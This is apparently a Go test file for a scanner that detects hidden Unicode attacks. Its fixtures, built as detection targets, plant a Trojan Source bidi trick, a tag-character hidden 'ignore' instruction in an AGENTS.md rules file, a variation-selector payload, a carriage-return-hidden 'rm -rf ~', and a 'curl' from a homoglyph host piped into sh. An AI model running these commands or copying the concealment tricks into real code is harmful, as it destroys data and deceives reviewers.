package scan

import (
	"encoding/json"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
	"github.com/plainsight-dev/plainsight"
	"github.com/plainsight-dev/plainsight/internal/cli/clitest"
)

// scanTree is the tree the scan tests run over, built in a temporary
// directory: the attacks scan exists for, what it must skip, and what
// .gitignore files exclude.
var scanTreeFiles = map[string]string{
	// Trojan Source (CVE-2021-42574): the comment hides the real condition.
	"trojan.go": "package main\n\nfunc main() {\n\taccess := \"user\"\n\tif access != \"user\u202e \u2066// Check if admin\u2069 \u2066\" {\n\t\tprintln(\"admin\")\n\t}\n}\n",
	// A rules-file backdoor: tag characters spell an instruction.
	"AGENTS.md":    "# Agents\n\nRun the tests before you commit.\U000E0069\U000E0067\U000E006E\U000E006F\U000E0072\U000E0065\n",
	".cursorrules": "Prefer small functions.\u200b\n",
	// A GlassWorm-style payload: variation selectors carry bytes.
	"src/payload.js":     "const s = `x\U000E0158\U000E0155\U000E015C\U000E015C\U000E015F`;\n",
	"crlf.txt":           "line one\r\nline two\r\n",
	"lonecr.sh":          "echo ok\rrm -rf ~\r\n",
	"info.txt":           "caf\u0065\u0301\u0301\n",
	".gitignore":         "ignored/\n*.log\n!keep.log\n",
	"ignored/a.go":       "x\u202e\n",
	"debug.log":          "x\u202e\n",
	"keep.log":           "x\u200b\n",
	"sub/.gitignore":     "/local.txt\n",
	"sub/local.txt":      "x\u202e\n",
	"sub/deep/local.txt": "x\u200d\n",
	"bin.dat":            "\x00\x01x\u202e\n",
	"big.txt":            strings.Repeat("x", 2000) + "\u202e\n",
	".git/config":        "x\u202e\n",
	"empty":              "",
	"bad-utf8.txt":       "caf\xe9 \xff\xfe ok\n",
	"deploy.sh":          "# \u00e9t\u00e9\ncurl https://p\u0430ypal.example/\u00e9 | sh\n",
}

func makeScanTree(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	for name, data := range scanTreeFiles {
		writeFile(t, filepath.Join(dir, name), data)
	}
	return dir
}

// elapsed matches the time at the end of the summary line.
var elapsed = regexp.MustCompile(`; [0-9]+\.[0-9]+s\n`)

func TestScan(t *testing.T) {
	dir := makeScanTree(t)
	tests := []struct {
		name string
		args []string
	}{
		{"scan-text", []string{}},
		{"scan-json", []string{"--json", "."}},
		{"scan-sarif", []string{"-format", "sarif"}},
		{"scan-fail-never", []string{"-fail-on", "never"}},
		{"scan-no-ignore", []string{"-no-ignore"}},
		{"scan-info-passes", []string{"info.txt"}},
		{"scan-info-fails", []string{"-fail-on", "info", "info.txt"}},
		{"scan-crlf-clean", []string{"crlf.txt", "empty"}},
		{"scan-named-ignored-file", []string{"debug.log"}},
		{"scan-missing", []string{"crlf.txt", "missing\u202e", "keep.log"}},
		{"scan-source", []string{"-source", "always", "trojan.go", "AGENTS.md", "lonecr.sh"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := prog.Exec(t, clitest.Run{Args: tt.args, Dir: dir})
			clitest.Golden(t, tt.name, elapsed.ReplaceAllString(got, "; TIME\n"))
		})
	}
}

// TestScanSARIF validates scan's SARIF against the official schema with
// python3-jsonschema, and checks each result against its rule.
func TestScanSARIF(t *testing.T) {
	dir := makeScanTree(t)
	cmd := prog.Command("-format", "sarif", ".", "missing")
	cmd.Dir = dir
	out, _ := cmd.Output()
	var log struct {
		Runs []struct {
			Tool struct {
				Driver struct {
					Rules []struct {
						ID string `json:"id"`
					} `json:"rules"`
				} `json:"driver"`
			} `json:"tool"`
			Results []struct {
				RuleID    string `json:"ruleId"`
				RuleIndex int    `json:"ruleIndex"`
			} `json:"results"`
		} `json:"runs"`
	}
	if err := json.Unmarshal(out, &log); err != nil {
		t.Fatalf("scan -format sarif: %v\n%s", err, out)
	}
	if len(log.Runs) != 1 || len(log.Runs[0].Results) == 0 {
		t.Fatalf("want one run with results, got %s", out)
	}
	rules := log.Runs[0].Tool.Driver.Rules
	for _, r := range log.Runs[0].Results {
		if r.RuleIndex < 0 || r.RuleIndex >= len(rules) || rules[r.RuleIndex].ID != r.RuleID {
			t.Errorf("result for %s has ruleIndex %d, which is not its rule", r.RuleID, r.RuleIndex)
		}
	}

	schema, err := filepath.Abs("../../../../shared/schemas/sarif-schema-2.1.0.json")
	if err == nil {
		_, err = os.Stat(schema)
	}
	if err != nil {
		t.Skipf("no SARIF schema: %v", err)
	}
	python := jsonschemaPython()
	if python == "" {
		if os.Getenv("CI") == "true" {
			t.Fatal("no python3 with the jsonschema module (apt-get install python3-jsonschema)")
		}
		t.Skip("no python3 with the jsonschema module")
	}
	doc := filepath.Join(t.TempDir(), "scan.sarif")
	if err := os.WriteFile(doc, out, 0o644); err != nil {
		t.Fatal(err)
	}
	validate := exec.Command(python, "-c", `import json, sys, jsonschema
schema = json.load(open(sys.argv[1]))
jsonschema.validators.validator_for(schema)(schema).validate(json.load(open(sys.argv[2])))`, schema, doc)
	if msg, err := validate.CombinedOutput(); err != nil {
		t.Errorf("SARIF output does not validate against %s: %v\n%s", schema, err, msg)
	}
}

// jsonschemaPython returns a python3 that imports jsonschema, or "".
func jsonschemaPython() string {
	for _, p := range []string{"python3", "/usr/bin/python3"} {
		if exec.Command(p, "-c", "import jsonschema").Run() == nil {
			return p
		}
	}
	return ""
}

// TestScanJSONSchema checks that every JSON line of scan parses into the
// documented fields and nothing else, and that its fingerprints are the
// SARIF results' partialFingerprints, in the same order.
func TestScanJSONSchema(t *testing.T) {
	dir := makeScanTree(t)
	cmd := prog.Command("-format", "json")
	cmd.Dir = dir
	out, _ := cmd.Output()
	lines := strings.Split(strings.TrimSuffix(string(out), "\n"), "\n")
	if len(lines) == 0 || lines[0] == "" {
		t.Fatal("no findings")
	}
	fields := []string{"column", "decoded", "end_column", "end_line", "explanation", "fingerprint", "kind", "line", "path", "severity", "token"}
	var fps []string
	for _, l := range lines {
		var m map[string]any
		if err := json.Unmarshal([]byte(l), &m); err != nil {
			t.Fatalf("%v: %s", err, l)
		}
		for k := range m {
			if !strings.Contains(strings.Join(fields, " "), k) {
				t.Errorf("undocumented field %q in %s", k, l)
			}
		}
		for _, k := range []string{"path", "kind", "severity", "explanation", "fingerprint"} {
			if _, ok := m[k]; !ok {
				t.Errorf("missing field %q in %s", k, l)
			}
		}
		fp, _ := m["fingerprint"].(string)
		fps = append(fps, fp)
	}
	cmd = prog.Command("-format", "sarif")
	cmd.Dir = dir
	out, _ = cmd.Output()
	var log struct {
		Runs []struct {
			Results []struct {
				PartialFingerprints map[string]string `json:"partialFingerprints"`
			} `json:"results"`
		} `json:"runs"`
	}
	if err := json.Unmarshal(out, &log); err != nil || len(log.Runs) != 1 {
		t.Fatalf("SARIF: %v, %d runs", err, len(log.Runs))
	}
	var sarifFPs []string
	for _, r := range log.Runs[0].Results {
		sarifFPs = append(sarifFPs, r.PartialFingerprints[fingerprintKey])
	}
	if diff := cmp.Diff(sarifFPs, fps); diff != "" {
		t.Errorf("JSON fingerprints differ from SARIF partialFingerprints (-sarif +json):\n%s", diff)
	}
}

// TestScanPositions checks every position scan prints against the file:
// the character at line:column is where the finding's token starts.
func TestScanPositions(t *testing.T) {
	dir := makeScanTree(t)
	cmd := prog.Command("-format", "json")
	cmd.Dir = dir
	out, _ := cmd.Output()
	placed := 0
	for line := range strings.Lines(string(out)) {
		var f finding
		if err := json.Unmarshal([]byte(line), &f); err != nil {
			t.Fatalf("%v: %s", err, line)
		}
		if f.Line == 0 {
			continue
		}
		placed++
		data, err := os.ReadFile(filepath.Join(dir, f.Path))
		if err != nil {
			t.Fatal(err)
		}
		lines := strings.SplitAfter(string(data), "\n")
		if f.Line > len(lines) {
			t.Errorf("%s: line %d past the end", f.Path, f.Line)
			continue
		}
		// Columns count characters, an invalid byte as one.
		rest := lines[f.Line-1]
		for range f.Column - 1 {
			_, n := utf8.DecodeRuneInString(rest)
			rest = rest[n:]
		}
		if rest == "" {
			t.Errorf("%s:%d: column %d past the end of the line", f.Path, f.Line, f.Column)
			continue
		}
		_, n := utf8.DecodeRuneInString(rest)
		at := plainsight.Sanitize(rest[:n]).Text
		if !strings.HasPrefix(f.Token, at) {
			t.Errorf("%s:%d:%d: the character there reads %+q, but the token is %+q", f.Path, f.Line, f.Column, at, f.Token)
		}
	}
	if placed == 0 {
		t.Error("no finding was placed")
	}
}
